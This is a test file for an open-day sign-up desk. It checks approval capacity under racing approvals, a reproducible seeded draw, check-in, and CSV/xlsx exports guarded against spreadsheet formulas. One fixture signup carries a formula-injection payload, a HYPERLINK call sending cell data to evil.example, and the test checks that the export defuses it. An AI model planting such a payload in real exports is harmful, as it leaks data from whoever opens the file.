// The open-day desk on the engine under test: attendee lists per session, approval in 审核 mode
// (never past capacity, even when two officers approve at once), the seeded draw in 抽签 mode
// (reproducible from its seed, never above capacity, once, in the audit log, visible in the
// attendee's lookup), check-in on the day, the xlsx/CSV export with the formula guard, and the
// 评议 questionnaire with its summary on the desk and, when published, on the public page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { catalogueFile, client, ENGINE, freshDatabase, mobile, openDayCatalogue, startServer } from '../helpers/zwgk-server.mjs';
import { loadModules } from '../helpers/node-bundle.mjs';
import { addStaff, signIn, STAFF, TEST_PASSWORD_ENV } from '../helpers/desk.mjs';

const { runDraw, verifyDraw } = await loadModules(`export { runDraw, verifyDraw } from './src/forms/open-day-draw.ts';`);

const soon = new Date(Date.now() + 15 * 60_000).toISOString();
const later = new Date(Date.now() + 4 * 3_600_000).toISOString();
const catalogueWith = (drawDeadline) => openDayCatalogue([
  ['od-review', { selection: 'review', capacity: 2 }],
  ['od-draw', { selection: 'draw', capacity: 5, ...(drawDeadline ? { deadline: drawDeadline } : {}) }],
  ['od-today', { capacity: 10, deadline: soon }, { start: soon, end: later, sessions: [{ id: 's1', start: soon, end: later, capacity: 10 }] }],
]);
const open = catalogueFile(catalogueWith());
const closed = catalogueFile(catalogueWith(new Date(Date.now() - 60_000).toISOString()));
let database;
let server;
let api;
const env = (file) => ({ ...database.env, ...TEST_PASSWORD_ENV, ZWGK_CATALOGUE: file, ZWGK_RATE_LOGIN: '100000/60' });
const as = (username) => signIn(server.origin, username, STAFF.find((s) => s.username === username).password);
const session = (event) => `/api/staff/open-days/${event}/sessions/s1`;
const signUp = async (event, i, fields = {}) => {
  const response = await api.post(`/api/open-days/${event}/sessions/s1/signups`, { name: `报名人${i}`, phone: mobile(i), fields: { consent: 'yes', ...fields } }, { 'Idempotency-Key': crypto.randomUUID() });
  assert.equal(response.status, 201, response.text);
  return response.json;
};
const lookup = (code, i) => api.post('/api/open-days/signups/lookup', { code, phone: mobile(i) });

const signups = { review: [], draw: [], today: [] };

before(async () => {
  database = await freshDatabase();
  addStaff(database.env);
  server = await startServer(env(open));
  api = client(server.origin);
  for (let i = 0; i < 4; i++) signups.review.push(await signUp('od-review', 100 + i));
  for (let i = 0; i < 12; i++) signups.draw.push(await signUp('od-draw', 200 + i));
  signups.today.push(await signUp('od-today', 300, { question: '=HYPERLINK("http://evil.example/?x="&A1,"点击")' }));
  signups.today.push(await signUp('od-today', 301, { question: '@SUM(1+1)' }));
  signups.today.push(await signUp('od-today', 302));
});
after(async () => {
  await server?.stop();
  await database?.drop();
});

test(`[${ENGINE}] the desk lists each session’s attendees with their statuses; only staff see them`, async () => {
  assert.equal((await api.get(session('od-review'))).status, 401);
  const registrar = await as('li.reg');
  const events = (await registrar.get('/api/staff/open-days')).json;
  const review = events.find((e) => e.id === 'od-review');
  assert.deepEqual([review.mode, review.modeLabel, review.sessions[0].counts.pending], ['review', '审核', 4]);
  const view = (await registrar.get(session('od-review'))).json;
  assert.deepEqual(view.attendees.map((a) => [a.code, a.status, a.statusLabel]), signups.review.map((s) => [s.code, 'pending', '已报名，待确认']));
  assert.equal(view.attendees[0].phone, mobile(100));
  // The registrar cannot decide who attends.
  assert.deepEqual(view.attendees[0].actions.map((a) => a.action), ['cancel']);
});

test('审核: the reviewer approves up to capacity and no further (also when two approvals race), rejects, and the attendee’s lookup shows it', async () => {
  const handler = await as('wang.han');
  const reviewer = await as('chen.rev');
  const [a, b, c, d] = signups.review;
  const act = (officer, code, action) => officer.post(`${session('od-review')}/attendees/${code}/actions`, { action });
  const wrongRole = await act(handler, a.code, 'approve');
  assert.deepEqual([wrongRole.status, wrongRole.json.error], [403, 'forbidden-role']);
  assert.equal((await act(reviewer, a.code, 'approve')).status, 200);
  // One place left, two officers approve at once: exactly one wins.
  const race = await Promise.all([act(reviewer, b.code, 'approve'), act(await as('zhou.adm'), c.code, 'approve')]);
  assert.deepEqual(race.map((r) => r.status).sort(), [200, 409]);
  assert.equal(race.find((r) => r.status === 409).json.error, 'full');
  const rejected = await act(reviewer, d.code, 'reject');
  const view = rejected.json;
  assert.equal(view.placesTaken, 2);
  assert.equal(view.counts.confirmed, 2);
  assert.equal((await lookup(d.code, 103)).json.status, 'rejected');
  assert.equal((await lookup(a.code, 100)).json.status, 'confirmed');
  const publicCounts = (await api.get('/api/open-days')).json.find((e) => e.id === 'od-review').sessions[0];
  assert.deepEqual([publicCounts.taken, publicCounts.remaining], [2, 0]);
});

test('抽签: refused while sign-up is open; then run once with its seed, reproducible, never above capacity, recorded in the audit log and shown in each lookup', async () => {
  const reviewer = await as('chen.rev');
  const early = await reviewer.post(`${session('od-draw')}/draw`, { seed: '2026年12月福彩3D第328期：517' });
  assert.deepEqual([early.status, early.json.error], [409, 'still-open']);

  await server.stop();
  server = await startServer(env(closed));
  api = client(server.origin);
  const officer = await as('chen.rev');
  assert.equal((await (await as('wang.han')).post(`${session('od-draw')}/draw`, { seed: 'x' })).status, 403);
  const seed = '2026年12月福彩3D第328期：517';
  const drawn = await officer.post(`${session('od-draw')}/draw`, { seed });
  assert.equal(drawn.status, 200, drawn.text);
  const view = drawn.json;
  const confirmed = view.attendees.filter((a) => a.status === 'confirmed');
  assert.equal(confirmed.length, 5);
  assert.equal(view.attendees.filter((a) => a.status === 'not_selected').length, 7);
  const expected = runDraw(signups.draw.map((s) => s.code), 5, seed);
  assert.deepEqual(view.draw.order, expected.order);
  assert.deepEqual(confirmed.map((a) => a.code).sort(), [...expected.selected].sort());
  assert.equal(view.draw.verified, true);
  assert.equal(verifyDraw(view.draw), true, 'anyone can re-run the published draw');
  const audit = view.audit.find((a) => a.action === 'draw');
  assert.deepEqual([audit.actor.id, audit.details.seed, audit.details.places, audit.stateBefore, audit.stateAfter], ['chen.rev', seed, 5, 'pending:12', 'selected:5']);
  assert.equal(audit.details.candidatesDigest, expected.candidatesDigest);

  const again = await officer.post(`${session('od-draw')}/draw`, { seed: 'another seed' });
  assert.deepEqual([again.status, again.json.error], [409, 'already-drawn']);

  const index = (code) => signups.draw.findIndex((s) => s.code === code);
  const winner = expected.selected[0];
  const loser = expected.notSelected[0];
  const won = (await lookup(winner, 200 + index(winner))).json;
  assert.deepEqual([won.status, won.draw.rank, won.draw.selected, won.draw.seed, won.draw.candidates, won.draw.candidatesDigest], ['confirmed', 1, true, seed, 12, expected.candidatesDigest]);
  const lost = (await lookup(loser, 200 + index(loser))).json;
  assert.deepEqual([lost.status, lost.draw.rank, lost.draw.selected], ['not_selected', 6, false]);
  const counts = (await api.get('/api/open-days')).json.find((e) => e.id === 'od-draw').sessions[0];
  assert.ok(counts.taken <= 5);
});

test('on the day: check-in (not before the day elsewhere), the export as CSV with the formula guard and as xlsx', async () => {
  const registrar = await as('li.reg');
  const [first, second] = signups.today;
  const notToday = await registrar.post(`${session('od-review')}/attendees/${signups.review[0].code}/actions`, { action: 'check_in' });
  assert.deepEqual([notToday.status, notToday.json.error], [409, 'not-today']);
  const checked = await registrar.post(`${session('od-today')}/attendees/${first.code}/actions`, { action: 'check_in' });
  assert.equal(checked.status, 200, checked.text);
  assert.equal(checked.json.attendees.find((a) => a.code === first.code).status, 'checked_in');
  assert.equal((await lookup(first.code, 300)).json.status, 'checked_in');

  const csv = await registrar.get(`${session('od-today')}/export?format=csv`);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-disposition'), /^attachment; filename="attendees-s1\.csv"; filename\*=UTF-8''/);
  const lines = csv.text.trim().split('\r\n');
  assert.match(lines[0], /^序号,确认码,姓名,手机号码,状态,/);
  assert.ok(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)), 'a formula is kept as text');
  assert.ok(lines.some((l) => l.includes("'@SUM(1+1)")));
  assert.ok(!lines.some((l) => /,=|,"=|,@/.test(l)), 'no cell starts a formula');
  assert.ok(lines.some((l) => l.includes(first.code) && l.includes('已签到')));
  const xlsx = await fetch(`${server.origin}${session('od-today')}/export?format=xlsx`, { headers: { Cookie: registrar.cookie } });
  const bytes = Buffer.from(await xlsx.arrayBuffer());
  assert.equal(bytes.subarray(0, 2).toString(), 'PK');
  const { default: ExcelJS } = await import('exceljs');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes);
  const sheet = workbook.worksheets[0];
  assert.equal(sheet.getCell('C2').value, '报名人300');
  const question = sheet.getRow(1).values.indexOf('想了解的问题');
  assert.equal(typeof sheet.getRow(2).getCell(question).value, 'string');
  void second;
});

test('评议: only a checked-in attendee answers, once; the desk summarises; the public page shows it only when published, with released comments only', async () => {
  const [first, second] = signups.today;
  const survey = (code, i, answers) => api.post('/api/open-days/signups/survey', { code, phone: mobile(i), answers });
  const open = (await lookup(first.code, 300)).json.survey;
  assert.equal(open.open, true);
  assert.equal(open.questions[0].id, 'overall');
  assert.equal((await survey(second.code, 301, { overall: 5 })).json.error, 'not-checked-in');
  const invalid = await survey(first.code, 300, { overall: 9 });
  assert.deepEqual([invalid.status, invalid.json.errors[0].path], [422, 'answers.overall']);
  const answered = await survey(first.code, 300, { overall: 4, disclosure: 5, comments: '希望多办几场，讲解很清楚。' });
  assert.equal(answered.status, 201, answered.text);
  assert.equal(answered.json.survey.answered, true);
  assert.equal((await survey(first.code, 300, { overall: 1 })).json.error, 'already-answered');
  assert.equal((await survey(first.code, 301, { overall: 1 })).status, 404);

  const reviewer = await as('chen.rev');
  let view = (await reviewer.get(session('od-today'))).json;
  assert.deepEqual([view.survey.responses, view.survey.attended, view.survey.questions[0].mean, view.survey.comments[0].text], [1, 1, 4, '希望多办几场，讲解很清楚。']);
  const publicSession = async () => (await api.get('/api/open-days')).json.find((e) => e.id === 'od-today').sessions[0];
  assert.equal((await publicSession()).survey, undefined);
  assert.equal((await (await as('wang.han')).post(`${session('od-today')}/survey`, { public: true })).status, 403);
  view = (await reviewer.post(`${session('od-today')}/survey`, { public: true })).json;
  assert.equal(view.survey.public, true);
  let shown = (await publicSession()).survey;
  assert.deepEqual([shown.responses, shown.comments], [1, []]);
  assert.ok(!JSON.stringify(shown).includes(first.code));
  await reviewer.post(`${session('od-today')}/survey/comments/${first.code}`, { publish: true });
  shown = (await publicSession()).survey;
  assert.deepEqual(shown.comments, ['希望多办几场，讲解很清楚。']);
});
